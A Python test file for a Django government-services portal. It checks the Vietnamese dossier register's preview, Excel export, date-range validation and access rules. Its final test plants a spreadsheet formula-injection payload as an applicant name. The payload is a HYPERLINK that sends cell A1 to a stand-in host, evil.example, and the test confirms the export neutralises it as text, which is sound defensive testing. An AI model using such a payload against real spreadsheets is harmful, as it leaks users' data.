"""The dossier register (Sổ theo dõi hồ sơ, Mẫu số 06) per agency and period, previewed and exported to Excel."""

from __future__ import annotations

import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dossiers import services
from dossiers.register import COLUMNS
from tests.portal.factories import CitizenFactory

from .factories import awaiting_approval, received, signing_ready

pytestmark = pytest.mark.date_sensitive

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
MARCH = dt.datetime(2026, 3, 2, 8, 0, tzinfo=TZ)
URL = reverse("dossiers:register")


def test_the_register_lists_the_period_and_exports_to_excel(client, province):
    # given two dossiers received in March (one finished and returned) and one in April
    signing_ready(province)
    done = services.dossier_approve(
        dossier=awaiting_approval(province, at=MARCH),
        actor=province.approver,
        at=MARCH + dt.timedelta(days=1),
    )
    done = services.dossier_deliver(
        dossier=done,
        actor=province.officer,
        method="desk",
        collected_by="Nguyễn Văn An",
        at=MARCH + dt.timedelta(days=2),
    )
    waiting = received(province, at=MARCH + dt.timedelta(days=3))
    april = received(province, at=MARCH + dt.timedelta(days=35))

    # when the desk exports March
    client.force_login(province.officer)
    query = {"co_quan": province.centre.pk, "tu_ngay": "2026-03-01", "den_ngay": "2026-03-31"}
    preview = client.get(URL, query).content.decode()
    assert done.code in preview and waiting.code in preview and april.code not in preview
    response = client.get(URL, {**query, "xuat": "xlsx"})

    # then the workbook has the form's columns and one line per dossier with its dates
    assert response.status_code == 200
    assert "so-theo-doi-ho-so" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][0] == "SỔ THEO DÕI HỒ SƠ"
    assert list(values[4][: len(COLUMNS)]) == [header for header, _ in COLUMNS]
    lines = {row[1]: row for row in values[5:]}
    assert set(lines) == {done.code, waiting.code}
    line = lines[done.code]
    assert line[0] in (1, 2) and line[3] == 1 and line[4] == done.applicant_name
    received_at, due_at, forwarded, back, delivered = line[7:12]
    assert received_at.date() == dt.date(2026, 3, 2)
    assert forwarded is not None and back is not None and delivered is not None
    assert received_at <= forwarded <= back <= delivered
    assert line[12] == "Nguyễn Văn An"
    assert "Trước hạn" in line[15]
    assert lines[waiting.code][9] is None  # not forwarded yet


def test_the_competent_agency_sees_its_dossiers_received_elsewhere(client, province):
    dossier = awaiting_approval(province, at=MARCH)
    client.force_login(province.approver)
    response = client.get(
        URL, {"co_quan": province.department.pk, "tu_ngay": "2026-03-01", "den_ngay": "2026-03-31"}
    )
    assert dossier.code in response.content.decode()


def test_period_errors_are_shown_next_to_the_fields(client, province):
    client.force_login(province.officer)
    page = client.get(URL, {"co_quan": province.centre.pk, "tu_ngay": "2026-03-31", "den_ngay": "2026-03-01"})
    assert "Ngày kết thúc phải từ ngày bắt đầu trở đi." in page.content.decode()
    page = client.get(URL, {"co_quan": province.centre.pk, "tu_ngay": "2024-01-01", "den_ngay": "2026-03-01"})
    assert "tối đa một năm" in page.content.decode()


def test_only_desks_and_leaders_read_the_register(client, province):
    for person in (province.specialist, CitizenFactory()):
        client.force_login(person)
        assert client.get(URL).status_code == 403
    client.force_login(province.officer)
    other_agency = province.department.pk  # the desk officer is not a leader there
    dossier = awaiting_approval(province, at=MARCH)
    response = client.get(URL, {"co_quan": other_agency, "tu_ngay": "2026-03-01", "den_ngay": "2026-03-31"})
    assert "co_quan" in response.context["form"].errors
    assert dossier.code not in response.content.decode()


def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, province):
    # given a dossier whose applicant typed a formula as the name (issue 17, finding 5)
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")'
    dossier = received(province, CitizenFactory(full_name=formula), at=MARCH)
    assert dossier.applicant_name == formula

    # when the desk exports the register
    client.force_login(province.officer)
    query = {"co_quan": province.centre.pk, "tu_ngay": "2026-03-01", "den_ngay": "2026-03-31", "xuat": "xlsx"}
    sheet = load_workbook(io.BytesIO(client.get(URL, query).content)).active

    # then the name is a text cell holding exactly what was typed, never a formula
    name = next(row[4] for row in sheet.iter_rows(min_row=6) if row[1].value == dossier.code)
    assert name.data_type == "s" and name.value == formula and name.quotePrefix
